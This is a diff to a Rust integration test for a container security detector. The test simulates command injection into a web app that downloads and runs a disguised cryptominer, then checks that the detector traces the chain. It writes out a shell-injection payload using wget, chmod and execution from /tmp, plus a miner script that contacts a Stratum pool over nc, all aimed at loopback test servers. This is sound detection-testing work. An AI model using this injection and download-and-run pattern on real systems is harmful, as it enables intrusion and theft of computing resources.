@@ -21,8 +21,9 @@ use needle_tests::capture::{trace_files, Capture};
 use needle_tests::runc::{runc_available, CgroupStyle, Container, ContainerSpec};
 use needle_tests::{read_trace, require, require_privileges};
 
-/// A customary Stratum port (models/intel/mining_ports.txt).
-const POOL_PORT: u16 = 14444;
+/// Customary Stratum ports (models/intel/mining_ports.txt); the fake pool takes the first free
+/// one, so concurrent runs of this test do not collide.
+const POOL_PORTS: &[u16] = &[14444, 14433, 45700, 45560, 3333, 3334, 3335, 3336, 5555, 5556, 7777, 7778];
 const POOL: &str = "pool.minexmr.com";
 
 /// Loopback servers of the test; stopped (and joined) on drop, also when the test panics.
@@ -117,14 +118,18 @@ fn command_injection_to_miner_is_named_with_its_chain_and_benign_containers_rais
     if !require_privileges(name) || !require(name, runc_available()) {
         return;
     }
-    let pool = TcpListener::bind(("127.0.0.1", POOL_PORT)).unwrap_or_else(|e| panic!("fake pool on 127.0.0.1:{POOL_PORT}: {e}"));
+    let pool = POOL_PORTS
+        .iter()
+        .find_map(|&p| TcpListener::bind(("127.0.0.1", p)).ok())
+        .unwrap_or_else(|| panic!("no free mining port on 127.0.0.1 for the fake pool: {POOL_PORTS:?}"));
+    let pool_port = pool.local_addr().unwrap().port();
     let web = TcpListener::bind("127.0.0.1:0").unwrap();
     let web_port = web.local_addr().unwrap().port();
     let stop = Arc::new(AtomicBool::new(false));
     let mut servers = Servers { stop: stop.clone(), threads: Vec::new() };
     let miner = format!(
         "#!/bin/sh\n/bin/timeout 3 /bin/nslookup {POOL} 127.0.0.1 > /dev/null 2>&1\n\
-         echo '{{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"kworker/1.0\"]}}' | /bin/timeout 5 /bin/nc 127.0.0.1 {POOL_PORT} > /dev/null\n"
+         echo '{{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"kworker/1.0\"]}}' | /bin/timeout 5 /bin/nc 127.0.0.1 {pool_port} > /dev/null\n"
     );
     servers.threads.push(accept_loop(web, stop.clone(), move |mut s| {
         read_until(&mut s, b"\r\n\r\n");
@@ -197,7 +202,7 @@ fn command_injection_to_miner_is_named_with_its_chain_and_benign_containers_rais
     // The injection: an ordinary-looking request whose parameter carries commands.
     let payload = format!(
         "hi; /bin/mkdir -p /tmp/.x; /bin/wget -q -O /tmp/.x/kworker http://127.0.0.1:{web_port}/kworker; \
-         /bin/chmod +x /tmp/.x/kworker; /tmp/.x/kworker -o {POOL}:{POOL_PORT} -u 4AbCdEf"
+         /bin/chmod +x /tmp/.x/kworker; /tmp/.x/kworker -o {POOL}:{pool_port} -u 4AbCdEf"
     );
     let mut s = connect_retry(app_port);
     s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
@@ -254,13 +259,28 @@ fn command_injection_to_miner_is_named_with_its_chain_and_benign_containers_rais
         .map(|e| format!("{} {} {}", e["kind"].as_str().unwrap(), e["exe"].as_str().unwrap_or(""), e["fields"]["dst_port"].as_str().unwrap_or("")))
         .collect();
     eprintln!("chain: {chain:#?}");
-    for step in ["exec /bin/sh", "exec /bin/wget", "connect /bin/wget", "exec /bin/chmod", "exec /tmp/.x/kworker", &format!("connect /bin/nc {POOL_PORT}")] {
+    for step in ["exec /bin/sh", "exec /bin/wget", "connect /bin/wget", "exec /bin/chmod", "exec /tmp/.x/kworker", &format!("connect /bin/nc {pool_port}")] {
         assert!(chain.iter().any(|c| c.starts_with(step)), "{step} missing from the chain {chain:#?}");
     }
-    // The attacked container outranks every benign one, which carry no finding.
+    // With file events recorded, the write of the download and the chmod are in the chain too.
+    if rows.iter().any(|e| matches!(e.detail, Detail::Open { .. })) {
+        for step in ["open /bin/wget", "chmod /bin/chmod"] {
+            assert!(chain.iter().any(|c| c.starts_with(step)), "{step} missing from the chain {chain:#?}");
+        }
+    } else {
+        eprintln!("note: file events not recorded by this capture build; open/chmod steps not asserted");
+    }
+    // The attacked container outranks every benign one, which carry no signature finding.
+    // (The peer-outlier model compares only these four containers here; what it says about
+    // them is its own business and is printed, not asserted.)
     for c in [&web, &client, &batch] {
         let w = find(c.id());
-        assert!(w["findings"].as_array().unwrap().is_empty(), "benign container {} got {:#}", c.id(), w["findings"]);
+        let findings = w["findings"].as_array().unwrap();
+        let named: Vec<&serde_json::Value> = findings.iter().filter(|f| f["rules"].is_array()).collect();
+        assert!(named.is_empty(), "benign container {} got signature findings {named:#?}", c.id());
+        if !findings.is_empty() {
+            eprintln!("note: model finding on benign {}: {:?}", c.id(), findings.iter().map(|f| &f["type"]).collect::<Vec<_>>());
+        }
         assert!(a["rank"].as_u64() < w["rank"].as_u64());
     }
 }
